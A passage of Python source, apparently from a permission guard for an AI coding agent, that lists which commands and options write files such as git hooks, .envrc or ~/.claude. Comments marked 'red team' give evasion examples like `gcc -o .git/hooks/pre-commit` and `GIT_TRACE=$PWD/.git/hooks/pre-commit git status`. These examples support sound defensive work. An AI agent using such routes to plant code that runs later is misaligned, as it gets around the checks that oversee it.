}  # fmt: skip
# ... put the packages they fetch into the folder an option names: `pip install --target .claude/hooks x`,
# `pip download -d`, `npm install --prefix`, `npm pack --pack-destination`.
_PACKAGE_DIRS: dict[str, tuple[str, ...]] = {
    "pip": ("-t", "--target", "-d", "--dest", "--prefix", "--root", "--src", "-w", "--wheel-dir"),
    # (red team: npm's `-C` is `--prefix`; pnpm's `-C` and `--dir` run it in a folder its install fills)
    "npm": ("--prefix", "-C", "--pack-destination"),
    "pnpm": ("--pack-destination", "-C", "--dir"),
    "bun": ("--destination",),  # (`bun pm pack --destination DIR`)
}
_PACKAGE_DIRS["pip3"] = _PACKAGE_DIRS["pip"]
# ... the desktops' file layers, by their acts: GNOME's file tool (`gio save F < x`, `gio move`/`copy`, `gio
# remove`/`trash`) and (red team) its older twins named by their act (`gvfs-move`, `gvfs-copy`, `gvfs-save`),
# KDE's kioclient and kfmclient (`kioclient5 move .github trash:/`, `kioclient5 copy URL .envrc`, `remove F`),
# gtrash's `put`; an address of another scheme (`trash:/`, `https://`) is no file here, `file://` is.
_LAYER_ACTS: dict[str, dict[str, str]] = {
    "gio": {"save": "save", "set": "save", "mkdir": "mkdir", "copy": "copy", "move": "move", "rename": "move",
            "remove": "remove", "trash": "remove"},
    **dict.fromkeys(("kioclient", "kioclient5", "kioclient6", "kfmclient"),
                    {"copy": "copy", "cp": "copy", "move": "move", "mv": "move", "remove": "remove", "rm": "remove",
                     "mkdir": "mkdir"}),
    "gtrash": {"put": "remove"},
}  # fmt: skip
_GVFS_ACTS = {"gvfs-move": "move", "gvfs-copy": "copy", "gvfs-save": "save", "gvfs-mkdir": "mkdir",
              "gvfs-rename": "move"}  # fmt: skip
# ... the renamers that let an
# editor or a pattern rename and delete names (`vidir DIR`, `qmv`, `mmv FROM TO`), and the dotfile managers
# that write the home folder, `~/.claude` included (`chezmoi apply`, `yadm checkout`, `stow -t ~ pkg`,
# `home-manager switch`).
_RENAMERS = frozenset({"vidir", "qmv", "imv", "mmv"})
_HOME_WRITERS: dict[str, frozenset[str]] = {
    "chezmoi": frozenset({"apply", "update", "init", "edit", "add", "re-add", "merge", "merge-all", "destroy",
                          "forget", "import", "purge"}),
    "yadm": frozenset({"checkout", "restore", "reset", "pull", "merge", "rebase", "stash", "clone", "switch",
                       "bootstrap", "alt", "decrypt", "apply", "am", "rm", "mv", "clean", "cherry-pick", "revert"}),
    "home-manager": frozenset({"switch", "activate"}),
}  # fmt: skip
# ... copy from cloud storage onto this machine: the last operand when it is local (`aws s3 cp s3://b/x F`,
# `gsutil cp gs://b/x F`, `s3cmd get s3://b/x F`), and az's `--file`/`--destination`.
_CLOUD_COPIES: dict[str, tuple[int, frozenset[str]]] = {
    "aws": (2, frozenset({"cp", "mv", "sync"})),
    "gsutil": (1, frozenset({"cp", "mv", "rsync"})),
    "gcloud": (2, frozenset({"cp", "mv", "rsync"})),
    "s3cmd": (1, frozenset({"get", "sync", "cp", "mv"})),
}
# [beyond] R3.7, red team: compilers, linkers, bundlers, transpilers and site or package builders write the
# file or folder an option names -- `gcc -o .git/hooks/pre-commit x.c`, `go build -o .husky/pre-commit`, `tsc
# --outFile .husky/pre-commit`, `javac -d .git/hooks X.java` put a program where git or a hook manager runs it
# later: (options naming a file, options naming a folder). A two-letter option also takes its value attached
# (`-o.git/hooks/x`), any option `NAME=V`, and Nim's `NAME:V`; protoc's `--LANG_out=DIR` are its folders.
_C_OUT: tuple[frozenset[str], frozenset[str]] = (frozenset({"-o"}), frozenset())
_BUILD_OUTPUTS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
    **dict.fromkeys(
        "gcc g++ cc c++ clang clang++ gfortran tcc icc icx emcc em++ cpp ld ld.lld ld.gold ld.bfd mold lld as "
        "strip upx shc cython wasm-opt wat2wasm wasm2wat llc opt nvcc dot".split(),
        _C_OUT,
    ),
    "ghc": (frozenset({"-o"}), frozenset({"-outputdir", "-odir", "-hidir", "-stubdir", "-dumpdir"})),
    # (and go test's profiles and traces)
    "go": (
        frozenset(
            {"-o", "-coverprofile", "-cpuprofile", "-memprofile", "-blockprofile", "-mutexprofile", "-trace"}
        ),
        frozenset({"-outputdir"}),
    ),
    "rustc": (frozenset({"-o"}), frozenset({"--out-dir"})),
    "cargo": (frozenset(), frozenset({"--artifact-dir", "--out-dir", "--target-dir", "--root"})),
    "zig": (
        frozenset({"-femit-bin", "-femit-h", "-femit-asm", "-femit-llvm-ir", "-o"}),
        frozenset({"-p", "--prefix"}),
    ),
    "nim": (frozenset({"-o", "--out"}), frozenset({"--outdir", "--nimcache"})),
    "tsc": (
        frozenset({"--outFile", "--out", "--tsBuildInfoFile", "--generateCpuProfile"}),
        frozenset({"--outDir", "--declarationDir", "--generateTrace"}),
    ),
    "esbuild": (frozenset({"--outfile", "--metafile"}), frozenset({"--outdir", "--outbase"})),
    "bun": (frozenset({"--outfile"}), frozenset({"--outdir"})),
    "deno": (frozenset({"-o", "--output"}), frozenset({"--root"})),
    "webpack": (frozenset(), frozenset({"-o", "--output-path"})),
    "rspack": (frozenset(), frozenset({"-o", "--output-path"})),
    "rollup": (frozenset({"-o", "--file"}), frozenset({"-d", "--dir"})),
    "babel": (frozenset({"-o", "--out-file"}), frozenset({"-d", "--out-dir"})),
    "swc": (frozenset({"-o", "--out-file"}), frozenset({"-d", "--out-dir"})),
    "tsup": (frozenset(), frozenset({"-d", "--out-dir"})),
    "ncc": (frozenset(), frozenset({"-o", "--out"})),
    "vite": (frozenset(), frozenset({"--outDir"})),
    "parcel": (frozenset(), frozenset({"--dist-dir"})),
    "postcss": (frozenset({"-o", "--output"}), frozenset({"-d", "--dir"})),
    "tailwindcss": (frozenset({"-o", "--output"}), frozenset()),
    "stylus": (frozenset(), frozenset({"-o", "--out"})),
    "javac": (frozenset(), frozenset({"-d", "-h", "-s"})),
    "kotlinc": (frozenset(), frozenset({"-d"})),
    "scalac": (frozenset(), frozenset({"-d"})),
    "dotnet": (frozenset(), frozenset({"-o", "--output", "--tool-path"})),
    # ... and the package and tool installers, the folder they put programs in (`gem install -n .git/hooks x`)
    "gem": (
        frozenset(),
        frozenset({"-i", "--install-dir", "-n", "--bindir", "--target"}),
    ),  # (`gem unpack --target`)
    "luarocks": (frozenset(), frozenset({"--tree"})),
    "cabal": (frozenset(), frozenset({"--installdir"})),
    "stack": (frozenset(), frozenset({"--local-bin-path"})),
    "cpanm": (frozenset(), frozenset({"-l", "--local-lib", "-L", "--local-lib-contained"})),
    "ghcup": (frozenset(), frozenset({"--isolate"})),
    "meson": (frozenset(), frozenset({"--prefix", "--destdir", "--bindir"})),
    "configure": (
        frozenset(),
        frozenset({"--prefix", "--exec-prefix", "--bindir", "--sbindir", "--libexecdir"}),
    ),
    "pyinstaller": (frozenset(), frozenset({"--distpath", "--workpath", "--specpath"})),
    "nuitka": (frozenset({"--output-filename"}), frozenset({"--output-dir"})),
    "protoc": (frozenset({"-o", "--descriptor_set_out", "--dependency_out"}), frozenset()),
    "wasm-pack": (frozenset(), frozenset({"-d", "--out-dir"})),
    "wasm-bindgen": (frozenset(), frozenset({"--out-dir"})),
    "nexe": (frozenset({"-o", "--output"}), frozenset()),
    "asciidoctor": (frozenset({"-o", "--out-file"}), frozenset({"-D", "--destination-dir"})),
    "mkdocs": (frozenset(), frozenset({"-d", "--site-dir"})),
    "hugo": (frozenset(), frozenset({"-d", "--destination"})),
    "jekyll": (frozenset(), frozenset({"-d", "--destination"})),
    "mmdc": (frozenset({"-o", "--output"}), frozenset()),
    "plantuml": (frozenset(), frozenset({"-o", "-output"})),
    "maturin": (frozenset(), frozenset({"-o", "--out"})),
    "uv": (frozenset(), frozenset({"-o", "--out-dir"})),
}
# [beyond] R3.7, red team: the test runners, linters, type checkers, coverage, benchmark and report tools teams
# allow write the report, log, cache or profile an option names -- `pytest --junitxml=.husky/pre-commit`, `npx
# eslint . -o .envrc`, `tree -o .husky/pre-commit` (file names the agent chose, which husky's `sh` or direnv then
# runs), `mypy --cache-dir .git/hooks`, `go test -coverprofile=.envrc`: read as the builds' output options are
# (pytest's `--cov-report TYPE:PATH` and `-o NAME=PATH`, vitest's `--outputFile.REPORTER`: _report_values).
_REPORT_OUTPUTS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
    "pytest": (
        frozenset(
            {"--junitxml", "--junit-xml", "--resultlog", "--result-log", "--report-log", "--json-report-file",
             "--html", "--log-file", "--debug"}
        ),
        frozenset({"--basetemp"}),  # (removed first, then filled)
    ),
    "coverage": (frozenset({"-o", "--data-file"}), frozenset({"-d", "--directory"})),
    "mypy": (
        frozenset({"--junit-xml"}),
        frozenset(
            {"--cache-dir", "--html-report", "--xml-report", "--txt-report", "--linecount-report",
             "--linecoverage-report", "--lineprecision-report", "--any-exprs-report", "--cobertura-xml-report",
             "--memory-xml-report"}
        ),
    ),
    "ruff": (frozenset({"-o", "--output-file"}), frozenset({"--cache-dir"})),
    "pylint": (frozenset({"--output"}), frozenset()),
    "flake8": (frozenset({"--output-file"}), frozenset()),
    "bandit": (frozenset({"-o", "--output"}), frozenset()),
    "semgrep": (
        frozenset({"-o", "--output", "--json-output", "--sarif-output", "--text-output", "--junit-xml-output",
                   "--emacs-output", "--vim-output", "--gitlab-sast-output", "--gitlab-secrets-output"}),
        frozenset(),
    ),
    "trivy": (frozenset({"-o", "--output"}), frozenset({"--cache-dir"})),
    "gitleaks": (frozenset({"-r", "--report-path"}), frozenset()),
    "tox": (frozenset({"--result-json"}), frozenset({"--workdir"})),
    "nox": (frozenset({"--report"}), frozenset({"--envdir"})),
    "pip-compile": (frozenset({"-o", "--output-file"}), frozenset()),
    "pyinstrument": (frozenset({"-o", "--outfile"}), frozenset()),
    "py-spy": (frozenset({"-o", "--output"}), frozenset()),
    "pdoc": (frozenset(), frozenset({"-o", "--output-directory", "--output-dir"})),
    "jest": (frozenset({"--outputFile"}), frozenset({"--coverageDirectory", "--cacheDirectory"})),
    "vitest": (frozenset({"--outputFile"}), frozenset({"--coverage.reportsDirectory"})),
    "eslint": (frozenset({"-o", "--output-file"}), frozenset({"--cache-location"})),
    "stylelint": (frozenset({"-o", "--output-file"}), frozenset({"--cache-location"})),
    "prettier": (frozenset(), frozenset({"--cache-location"})),
    "playwright": (frozenset({"-o", "--output-file", "--save-storage", "--save-har"}), frozenset({"--output"})),
    "nyc": (frozenset(), frozenset({"--report-dir", "--temp-dir", "--temp-directory"})),
    "c8": (frozenset(), frozenset({"-o", "--reports-dir", "--report-dir", "--temp-directory"})),
    "typedoc": (frozenset({"--json"}), frozenset({"--out"})),
    "jsdoc": (frozenset(), frozenset({"-d", "--destination"})),
    "storybook": (frozenset(), frozenset({"-o", "--output-dir"})),
    "tree": (frozenset({"-o"}), frozenset()),
    "cloc": (frozenset({"--out", "--report-file"}), frozenset()),
    "hyperfine": (
        frozenset({"--export-json", "--export-csv", "--export-markdown", "--export-asciidoc", "--export-orgmode"}),
        frozenset(),
    ),
    # ... and the packagers', infrastructure tools' and code generators': a lock export, a plan, a chart, the
    # files a generator writes (`terraform plan -out=.envrc`, `helm template . --output-dir .git/hooks`,
    # `gh run download -D .git/hooks`: an artifact's files, `openapi-generator-cli generate -o .husky`)
    "pdm": (frozenset({"-o", "--output"}), frozenset({"-d", "--dest"})),
    "terraform": (frozenset({"-out", "-state-out", "-state", "-backup"}), frozenset()),
    "tofu": (frozenset({"-out", "-state-out", "-state", "-backup"}), frozenset()),
    "helm": (frozenset(), frozenset({"--output-dir", "-d", "--destination", "--untardir"})),
    "kustomize": (frozenset(), frozenset({"-o", "--output"})),
    "gh": (frozenset({"-O", "--output"}), frozenset({"-D", "--dir"})),
    # red team: a model or dataset repository's files, from the Hugging Face hub (any name: `pre-commit` too)
    **dict.fromkeys(("huggingface-cli", "hf"), (frozenset(), frozenset({"--local-dir"}))),
    # ... and the other fetchers' and restorers' folders: yt-dlp's output (a template naming the file, or its
    # folders), conan's generated files (`conanbuild.sh` ...), a restic snapshot's files
    **dict.fromkeys(("yt-dlp", "youtube-dl"), (frozenset({"-o", "--output"}), frozenset({"-P", "--paths"}))),
    "conan": (frozenset(), frozenset({"-of", "--output-folder"})),
    "restic": (frozenset(), frozenset({"-t", "--target"})),
    "buf": (frozenset(), frozenset({"-o", "--output"})),
    **dict.fromkeys(
        ("openapi-generator", "openapi-generator-cli", "swagger-codegen", "swagger-codegen-cli"),
        (frozenset(), frozenset({"-o", "--output"})),
    ),
    # (Angular's CLI, `npx @angular/cli new x --directory .husky`: its project's folder, and _SCAFFOLDS' NAME)
    "ng": (frozenset(), frozenset({"--directory", "--output-path", "--path", "--new-project-root"})),
}  # fmt: skip
_PYTESTS = ("pytest", "py.test")  # (pytest's older name, still installed)
_REPORT_OUTPUTS["py.test"] = _REPORT_OUTPUTS["pytest"]
_BUILD_OUTPUTS.update(_REPORT_OUTPUTS)
BUILD_WRITERS = frozenset(_BUILD_OUTPUTS)  # read for their output options only
_BUILD_STARTS = {
    verb: tuple(files | dirs) + (("--",) if verb == "protoc" else ())
    for verb, (files, dirs) in _BUILD_OUTPUTS.items()
}
# `go env -w GOBIN=...`; `--o`, `--coverprofile` (go's flags take two dashes)
_BUILD_STARTS["go"] += ("-w", *("-" + o for o in _BUILD_STARTS["go"]))
for _pytest in _PYTESTS:
    _BUILD_STARTS[_pytest] += ("-o", "--override-ini", "--cov-report")
# ... and their one-letter output options ending a cluster of flags (`tree -fo F`, `gcc -co F`, `javac -gd DIR`,
# `ruff check -qo F`): getopt's, argparse's and most parsers' reading. Not go's (its flags are words: `-ao` is
# an error), nor pytest's `-o NAME=V` (_report_values reads it, `-qo NAME=V` too)
_BUILD_LETTERS = {
    verb: letters
    for verb, (files, dirs) in _BUILD_OUTPUTS.items()
    if verb != "go"
    and (letters := "".join(sorted({o[1] for o in files | dirs if len(o) == 2 and o[1] != "-"})))
}
_CLUSTERED = {**_BUILD_LETTERS, **dict.fromkeys(_PYTESTS, "o")}
# ... as one search of the words joined (one C call: most builds name no output)
_BUILD_SEARCH = {
    verb: re.compile(
        " (?:"
        + "|".join(re.escape(s) for s in starts)
        + (f"|-[A-Za-z]*[{_CLUSTERED[verb]}]" if verb in _CLUSTERED else "")
        + ")"
    ).search
    for verb, starts in _BUILD_STARTS.items()
}
# ... the ones no other row of the write table reads (`bun` has its config subcommand, `cmake` its -E)
_BUILD_ONLY = {verb: search for verb, search in _BUILD_SEARCH.items() if verb not in ("bun", "cmake")}
# [beyond] R3.7, red team: the folders a program installs programs into when a variable names them --
# `GOBIN=.git/hooks go install ./cmd/pre-commit` puts a hook where the next commit runs it; pipx's, uv's,
# cargo's, gem's, pip's `--user`, bun's, deno's, pnpm's, Volta's and Composer's the same -- and a makefile's
# install folders given on make's command line (`make install PREFIX=.git DESTDIR=...`).
_INSTALL_DIR_VARS = frozenset(
    "GOBIN GOPATH CARGO_INSTALL_ROOT CARGO_HOME CARGO_TARGET_DIR PIPX_BIN_DIR PIPX_HOME UV_TOOL_BIN_DIR UV_TOOL_DIR "
    "UV_INSTALL_DIR XDG_BIN_HOME GEM_HOME PYTHONUSERBASE BUN_INSTALL DENO_INSTALL_ROOT PNPM_HOME VOLTA_HOME "
    "COMPOSER_HOME COMPOSER_BIN_DIR".split()
) | frozenset(
    # red team: and the folders a program fills with what it runs later -- terraform's data folder and plugin
    # cache (providers), bundler's gems and binstubs, deno's cache, go's module and build caches, yarn's, pip's,
    # uv's and poetry's caches and environments, cargo's target folder by its configuration's name, Gradle's home
    # (init.d scripts): `TF_DATA_DIR=.git/hooks terraform init` fills the hooks folder.
    "TF_DATA_DIR TF_PLUGIN_CACHE_DIR BUNDLE_PATH BUNDLE_BIN DENO_DIR GOMODCACHE GOCACHE YARN_CACHE_FOLDER PIP_CACHE_DIR "
    "UV_CACHE_DIR UV_PROJECT_ENVIRONMENT POETRY_VIRTUALENVS_PATH POETRY_CACHE_DIR CARGO_BUILD_TARGET_DIR "
    "GRADLE_USER_HOME".split()
)
_MAKE_DIR_VARS = _INSTALL_DIR_VARS | frozenset(
    "PREFIX prefix DESTDIR BINDIR bindir exec_prefix EXEC_PREFIX INSTALL_DIR INSTALLDIR INSTALL_PREFIX sbindir "
    "libexecdir".split()
)
# [beyond] R3.7, red team: the files a program writes where a variable says -- git's trace files (it appends each
# trace line to the absolute path GIT_TRACE and its family name), coverage.py's data file, the TLS key log OpenSSL,
# NSS, Node and Python clients append to, LLVM's profile output, pip's log, the histories of node's, Python's,
# less's and the database clients' prompts, ccache's log, jest-junit's report: `GIT_TRACE=$PWD/.git/hooks/pre-commit
# git status` writes the hook. Read as named files, from the leading assignments (env's and export's operands).
_WRITTEN_FILE_VARS = frozenset(
    "GIT_TRACE GIT_TRACE2 GIT_TRACE2_EVENT GIT_TRACE2_PERF GIT_TRACE_PACKET GIT_TRACE_PACKFILE GIT_TRACE_PERFORMANCE "
    "GIT_TRACE_SETUP GIT_TRACE_SHALLOW GIT_TRACE_CURL GIT_TRACE_REFS GIT_TRACE_FSMONITOR COVERAGE_FILE SSLKEYLOGFILE "
    "LLVM_PROFILE_FILE PIP_LOG PIP_LOG_FILE NODE_REPL_HISTORY PYTHON_HISTORY LESSHISTFILE PSQL_HISTORY SQLITE_HISTORY "
    "MYSQL_HISTFILE REDISCLI_HISTFILE CCACHE_LOGFILE JEST_JUNIT_OUTPUT_FILE".split()
)
_ASSIGNERS = ("env", "export", "declare", "typeset", "readonly", "local")
_ASSIGNERS_AND_MAKES = frozenset(_ASSIGNERS) | {"make", "gmake"}
# (may_write's filter: one search of the words joined)
_ASSIGNED_SEARCH = re.compile(" (?:" + "|".join(sorted(_INSTALL_DIR_VARS | _WRITTEN_FILE_VARS)) + ")=").search
_MAKE_DIR_SEARCH = re.compile(" (?:" + "|".join(sorted(_MAKE_DIR_VARS)) + ")=").search


def _assigned_dirs(view: tuple[str, ...], names: frozenset[str], anywhere: bool) -> list[Target]:
    """The install folders ``names`` assigned in ``view``: its leading assignments (env's -- past its own options
    and their values -- and export's operands), or -- ``anywhere`` -- make's command-line variables among its
    words."""
    if not anywhere:
        return [(value, TREE) for name, value in leading_assignments(view) if name in names]
    out: list[Target] = []
    for w in view[1:]:
        name, eq, value = w.partition("=")
        if eq and name in names:
            out.append((value, TREE))
    return out


# [beyond] R3.7, red team: the cloners and scaffolders write the folder an operand names -- `gh repo clone o/r
# .git/hooks`, `hg clone URL .husky`, `svn checkout URL .husky`, `cargo new .git/hooks/x`, `rails new .husky`,
# `sphinx-build docs .git/hooks`, `copier copy TEMPLATE .husky`, `npm create vite .husky`: per program, (the words that name the act, which operand after them is the folder, the options that
# take a value).
def _valued(names: str) -> frozenset[str]:
    return frozenset(names.split())


_SCAFFOLDS: dict[str, dict[tuple[str, ...], tuple[int, frozenset[str]]]] = {
    "gh": {("repo", "clone"): (1, _valued("-u --upstream-remote-name")), ("gist", "clone"): (1, frozenset())},
    "hg": {("clone",): (1, _valued("-u --updaterev -r --rev -b --branch -e --ssh --remotecmd"))},
    "svn": dict.fromkeys(
        (("checkout",), ("co",), ("export",)), (1, _valued("-r --revision --depth --username --password"))
    ),
    "sphinx-build": {
        (): (1, _valued("-b -M -d -c -D -t -j -w -A --builder --doctree-dir --conf-dir --jobs"))
    },
    "copier": dict.fromkeys(
        (("copy",), ("recopy",)),
        (1, _valued("-r --vcs-ref -d --data -a --answers-file -x --exclude --data-file")),
    ),
    "cargo": dict.fromkeys((("new",), ("init",)), (0, _valued("--name --vcs --edition --registry"))),
    "rails": {("new",): (0, _valued("-d --database -m --template -j --javascript -c --css -r --ruby"))},
    "django-admin": dict.fromkeys(
        (("startproject",), ("startapp",)), (1, _valued("--template -e --extension -n --name"))
    ),
    "composer": {("create-project",): (1, _valued("-s --stability --repository --repository-url"))},
    "flutter": {("create",): (0, _valued("--org --project-name -t --template --platforms -i -a"))},
    "mix": {("new",): (0, _valued("--app --module"))},
    "ng": {
        ("new",): (
            0,
            _valued(
                "-c --collection -p --prefix --style --directory --package-manager --new-project-root "
                "--view-encapsulation"
            ),
        )
    },
    **dict.fromkeys(
        ("npm", "pnpm", "yarn", "bun"), {("create",): (1, frozenset()), ("init",): (1, frozenset())}
    ),
}


# (the first words of their acts, may_write's cheap test)
_SCAFFOLD_FIRST = frozenset(act[0] for acts in _SCAFFOLDS.values() for act in acts if act)
# ... and the initializers a node launcher runs by their package's name (`npx create-vite .husky`, `pnpm dlx
# create-next-app@latest .git/hooks`, `npm exec -- create-react-app .husky`, `bunx create-astro .husky`: what
# `npm create vite DIR` runs): the launchers, and the package managers' acts that launch a package
_LAUNCHERS = frozenset({"npx", "pnpx", "bunx"})
_LAUNCH_ACTS = {
    "npm": frozenset({"exec", "x"}),
    "pnpm": frozenset({"dlx", "exec"}),
    "yarn": frozenset({"dlx", "exec"}),
    "bun": frozenset({"x"}),
}


# [beyond] R3.7, red team (session 17): formatters and fixers rewrite the files they are given -- `prettier
# --write .github/workflows/ci.yml`, `black .git/hooks/pre-commit`, `eslint --fix .husky/pre-commit`, `gofmt -w
# .envrc` write one of the files that decide what runs later: per program, (the subcommand's words, the flags
# without which it writes nothing -- None when it always writes --, the flags with which it writes nothing).
# Its operands are each a tree (a folder's files are rewritten: `prettier --write .github`), a pattern the folder
# its literal part names (`.github/**`); not the working folder itself, whose tree is the whole project:
# `prettier --write .`, `black .`, `prettier --write "**/*.md"` stay ordinary (friction: the agents' everyday
# formatting; a formatter's pass over the project keeps what each file does, where a protected file named to it
# is what an attacker aims at).
_Formatting = tuple[tuple[str, ...], tuple[str, ...] | None, tuple[str, ...]]
_BIOME_WRITES = ("--write", "--apply", "--fix", "--apply-unsafe", "--unsafe")
_FORMATTERS: dict[str, tuple[_Formatting, ...]] = {
    "prettier": (((), ("--write", "-w"), ("--check", "-c", "--list-different", "-l")),),
    "eslint": (((), ("--fix",), ("--fix-dry-run",)),),
    "black": (((), None, ("--check", "--diff", "--help", "--version")),),
    "ruff": (
        (("format",), None, ("--check", "--diff")),
        (("check",), ("--fix", "--unsafe-fixes"), ("--diff",)),
    ),
    "rustfmt": (((), None, ("--check", "--help", "--version")),),
    "isort": (((), None, ("--check", "--check-only", "-c", "--diff", "--help", "--version")),),
    "deno": ((("fmt",), None, ("--check",)), (("lint",), ("--fix",), ())),
    "dprint": ((("fmt",), None, ()),),
    "stylua": (((), None, ("--check", "-c", "--help", "--version")),),
    "taplo": ((("fmt",), None, ("--check",)), (("format",), None, ("--check",))),
    "php-cs-fixer": ((("fix",), None, ("--dry-run",)),),
    "sqlfluff": ((("fix",), None, ()),),
    "biome": tuple(((sub,), _BIOME_WRITES, ()) for sub in ("format", "check", "lint")),
    "gofmt": (((), ("-w",), ()),),
    "shfmt": (((), ("-w", "--write"), ()),),
    "clang-format": (((), ("-i",), ()),),
    "autopep8": (((), ("-i", "--in-place"), ()),),
    "yapf": (((), ("-i", "--in-place"), ()),),
    "rubocop": (
        ((), ("-a", "-A", "--autocorrect", "--autocorrect-all", "--auto-correct", "--auto-correct-all"), ()),
    ),
    "standard": (((), ("--fix",), ()),),
    "standardrb": (((), ("--fix",), ()),),
    "markdownlint": (((), ("--fix",), ()),),
    "markdownlint-cli2": (((), ("--fix",), ()),),
    "stylelint": (((), ("--fix",), ()),),
    "swiftformat": (((), None, ("--lint", "--dryrun")),),
    "ktlint": (((), ("-F", "--format"), ()),),
    "google-java-format": (((), ("-i", "--replace"), ()),),
}


_MORE_WRITERS = frozenset(
    {*_OUTPUT_OPTIONS, *_SINGLE_DASH_OUTPUTS, *_IN_PLACE_FLAGS, *_DIR_OPTIONS, *_CONTAINER_COPIERS, "cmake"}
    | frozenset(_UNPACKERS)
    | _KEYED_UNPACKERS
    | frozenset(_PATCH_APPLIERS)
    | {"wiggle"}
    | frozenset(_LAYER_ACTS)
    | frozenset(_GVFS_ACTS)
    | {"stow", "az"}
    | _RENAMERS
    | frozenset(_HOME_WRITERS)
    | frozenset(_CLOUD_COPIES)
    | {"rename", "prename", "file-rename", "zip"}
    | _EDITORS
    | frozenset(_REPLACERS)
    | _OPERAND_WRITERS
    | frozenset(_BUILD_OUTPUTS)
    | frozenset(_SCAFFOLDS)
    | frozenset(_FORMATTERS)
)
# git sparse-checkout's actions that change which files the working tree holds.
_SPARSE_REWRITES = frozenset({"set", "add", "reapply", "disable", "init"})
# git clone's and git worktree add's options that take a value (so it is not read as the folder).
_GIT_CLONE_VALUED = frozenset(
    {"-o", "--origin", "-b", "--branch", "-u", "--upload-pack", "--reference", "--reference-if-able",
     "--separate-git-dir", "--depth", "--shallow-since", "--shallow-exclude", "-c", "--config", "--template",
     "-j", "--jobs", "--filter", "--server-option", "--bundle-uri", "--ref-format", "--reason", "-B"}
)  # fmt: skip

WRITE_VERBS: frozenset[str] = (
    _NAMED_OPERANDS
    | _TREE_OPERANDS
    | _COPIERS
    | _IN_PLACE
    | _DECOMPRESSORS
    | _COMPRESSORS
    | _EXTRACTORS
    | _PIP
    | frozenset(_AGENT_CLIS)
    | frozenset(_PKG_CONFIG)
    | _OUTPUT_VERBS
    | _CONVERTERS
    | frozenset(_CLIENT_CONFIG)
    | frozenset(
        {
            "dd",
            "curl",
            "wget",
            "uniq",
            "patch",
            "gpatch",
            "git",
            "find",
            "fd",
            "fdfind",
            "xargs",
            "parallel",
            "direnv",
            "pre-commit",
            "husky",
            "install",
        }
    )
    | frozenset(_CONFIG_WRITERS)
    | frozenset(_OWN_WRITERS)
    | _MORE_WRITERS
    | {"apply_patch", "applypatch"}  # (PATCH_TOOLS, below)
)
# The programs that may write the names their input hands them (`xargs rm`, `find -exec sed -i`): a compiler or
# builder writes only where its output option says, read in its own words; a formatter only when its words make
# it write (`find .husky -exec prettier --write {} +` is read so; `ls *.go | parallel gofmt -l {}` lists).
_INPUT_WRITERS = WRITE_VERBS - {"xargs", "parallel"} - BUILD_WRITERS - frozenset(_FORMATTERS)


# The first words of a view :func:`may_write` answers for besides a path, a python and an assignment, and the node
# launchers (an initializer they run by its package's name: _initialized) (decide()'s
# cheap filter reads `first in FIRST_WRITERS or "/" in first or "=" in first or first[:2] == "py"`).
FIRST_WRITERS = WRITE_VERBS | frozenset(_ASSIGNERS) | {"make", "gmake"} | _LAUNCHERS | SETTINGS_WRITERS
# (permissions.commands.settings_writers' programs the table does not read otherwise: kept out of WRITE_VERBS,
# which makes a program known to the vocabulary)
_SETTINGS_ONLY = SETTINGS_WRITERS - WRITE_VERBS


# Options of the copiers that take the next word as their value (so it is not read as a source).
_COPY_VALUES = frozenset({"-t", "-S", "--suffix", "-m", "--mode", "-o", "--owner", "-g", "--group"})


_RSYNC_FILES = ("--log-file", "--write-batch", "--only-write-batch")


def _copier(verb: str, view: tuple[str, ...]) -> list[Target]:
    if verb in _NETWORK_COPIERS:
        # rsync and scp: their operands as their option tables read them (every reading, when unsure); red team:
        # and the files and folder rsync's options name (`--log-file=.envrc`, `--write-batch=F` with its `F.sh`,
        # `--backup-dir=.git/hooks`: the replaced files land there by their own names)
        found = [t for _, ops in table_operands(view) for t in _copied(verb, view, list(ops), [])]
        if verb == "rsync":
            found += [(v, NAMED) for v in _option_values(view, "", _RSYNC_FILES)]
            found += [(v + ".sh", NAMED) for v in _option_values(view, "", _RSYNC_FILES[1:])]
            found += [
                (v, TREE) for v in _option_values(view, "", ("--backup-dir", "--partial-dir", "--temp-dir"))
            ]
        return found
    into = _option_values(view, "t", ("--target-directory",))
    return _copied(verb, view, _operands(view, _COPY_VALUES), into)


def _rsync_named(sources: list[str]) -> list[str]:
    """rsync's sources as the names they land under: a remote one's path (red team: `rsync host:.envrc .` writes
    ./.envrc, as scp's does; `host:` alone, the remote home's contents, as `.`)."""
    return [(s.partition(":")[2] or ".") if _remote(s) else s for s in sources]


def _copied(verb: str, view: tuple[str, ...], ops: list[str], into: list[str]) -> list[Target]:
    """What a copier with these operands (and ``-t`` directories) writes."""
    out: list[Target] = []
    if verb in ("install", "ginstall") and _has_flag(view, "d", ("--directory",)):
        return [(w, NAMED) for w in ops]
    contents_kind = TREE
    if into:
        dests, sources = into, ops
    elif len(ops) >= 2:
        dests, sources = ops[-1:], ops[:-1]
    elif len(ops) == 1 and verb in ("ln", "gln"):
        dests, sources = ["."], ops  # `ln -s /x/.claude`: a link named .claude here
    else:
        dests, sources = [], ops
    keeps_path = ("--parents" in view and verb in ("cp", "gcp")) or (
        verb == "rsync" and _has_flag(view, "R", ("--relative",))
    )
    links = verb in ("ln", "gln", "link") or _has_flag(
        view, "ls" if verb in ("cp", "gcp") else "", ("--link", "--symbolic-link")
    )
    named = _rsync_named(sources) if verb == "rsync" else sources
    for d in dests:
        if _remote(d) and verb in _NETWORK_COPIERS:
            continue  # R4.10: for `cp`/`mv`/`ln`, `a:b` is a local name (`.npmrc::$DATA`, `x:y`)
        out.append((d, NAMED))
        for s in named:
            if _remote(s) and verb == "scp":
                out.append((_join(d, _base(s.partition(":")[2] or s)), NAMED))
                continue
            if (
                s.endswith("/.")
                or s == "."
                or (verb == "rsync" and s.endswith("/"))
                or verb == "ditto"  # red team: ditto copies a folder's contents into the destination
                or _has_flag(
                    view, "T" if verb in ("cp", "gcp", "mv", "gmv") else "", ("--no-target-directory",)
                )
            ):
                out.append((d, contents_kind))  # a folder's contents: names this command does not spell
                if _git_store(s):
                    out.append((_join(d, "HEAD"), NAMED))  # red team: git's store laid under another name
            elif keeps_path:
                out.append((_join(d, s), NAMED))  # red team: `cp --parents x/.claude/s.json .`, `rsync -R`
            else:
                out.append((_join(d, _base(s)), NAMED))
                if "*" in _base(s) and _git_store(s.rpartition("/")[0]):
                    out.append((_join(d, "HEAD"), NAMED))  # `cp -r .git/* x/`
    if verb in ("mv", "gmv") or (verb == "rsync" and "--remove-source-files" in view):
